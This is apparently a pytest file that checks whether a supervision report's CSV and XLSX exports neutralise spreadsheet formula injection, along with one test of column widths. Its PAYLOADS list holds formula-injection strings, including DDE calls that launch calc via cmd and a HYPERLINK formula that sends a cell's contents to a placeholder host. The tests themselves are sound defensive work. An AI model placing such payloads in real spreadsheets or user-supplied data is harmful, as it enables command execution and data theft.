"""The supervision export opened in a spreadsheet: a typed note, unit or result (or a name from a
data file) that starts like a formula stays text in the CSV and in the XLSX — a cell never runs."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from common.china import TZ
from dashboard.reports import supervisions
from tests.support.sheets import too_narrow

# what a spreadsheet takes as the start of a formula (or of a DDE call), leading spaces included
PAYLOADS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
)


def row(text: Any) -> dict[str, Any]:
    """A supervision row whose every free text (typed or from a data file) is ``text``."""
    return {
        "item_kind": "grid_event",
        "item_no": "WG1",
        "what": text,
        "card": "red",
        "station_code": "S1",
        "zone_code": "Z1",
        "grid_code": "G1",
        "registered_at": datetime(2026, 11, 20, 9, tzinfo=TZ),
        "note": text,
        "unit": text,
        "deadline": date(2026, 12, 1),
        "state": "open",
        "overdue": False,
        "opened_by_name": text,
        "opened_at": datetime(2026, 11, 21, 9, tzinfo=TZ),
        "closed_by_name": text,
        "closed_at": None,
        "closed_reason": None,
        "result": text,
        "item_closed_at": None,
    }


FREE = ("what", "note", "unit", "opened_by_name", "closed_by_name", "result")


def _starts_a_formula(cell: str) -> bool:
    return cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_never_starts_a_formula(payload: str) -> None:
    body = supervisions.to_csv([row(payload)]).decode("utf-8-sig")
    _header, line = list(csv.reader(io.StringIO(body)))
    for key in FREE:
        cell = line[[k for k, _ in supervisions.COLUMNS].index(key)]
        assert not _starts_a_formula(cell) and not cell.startswith(("\t", "\r")), (key, cell)
        # what was typed is still there to read
        assert payload.strip() in cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_xlsx_cell_is_text(payload: str, tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    supervisions.write_xlsx([row(payload)], path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    for key in FREE:
        cell = sheet.cell(row=2, column=[k for k, _ in supervisions.COLUMNS].index(key) + 1)
        # (openpyxl leaves a carriage return as Excel's escape, which Excel reads back as one)
        value = str(cell.value).replace("_x000D_", "\r")
        assert cell.data_type == "s" and value == payload, (key, cell.data_type, cell.value)


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    body = supervisions.to_csv([row("请尽快处置 -- 城管")]).decode("utf-8-sig")
    assert ",请尽快处置 -- 城管," in body and ",2026-12-01," in body


def test_each_xlsx_column_fits_its_chinese_text(tmp_path: Path) -> None:
    """The export's columns were Excel's 8.43 whatever they held: 事项编号, a grid event's name and
    every time ran under the next column. Each is now as wide as its header and widest cell, and a
    note too long for any column wraps in it; the header stays in sight."""
    closed = {
        **row("金竹村第4网格出租屋楼道堆放杂物占用消防通道"),
        "note": "请于期限内清理楼道杂物，恢复消防通道畅通，并将处置前后照片上传至网格系统备查。" * 2,
        "state": "closed",
        "closed_at": datetime(2026, 11, 24, 17, 30, tzinfo=TZ),
        "closed_reason": "item_closed",
        "item_closed_at": datetime(2026, 11, 24, 17, 0, tzinfo=TZ),
    }
    path = tmp_path / "s.xlsx"
    supervisions.write_xlsx([row("请尽快处置"), closed], path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None and sheet.max_row == 3
    assert sheet.freeze_panes == "A2"
    assert too_narrow(sheet) == []
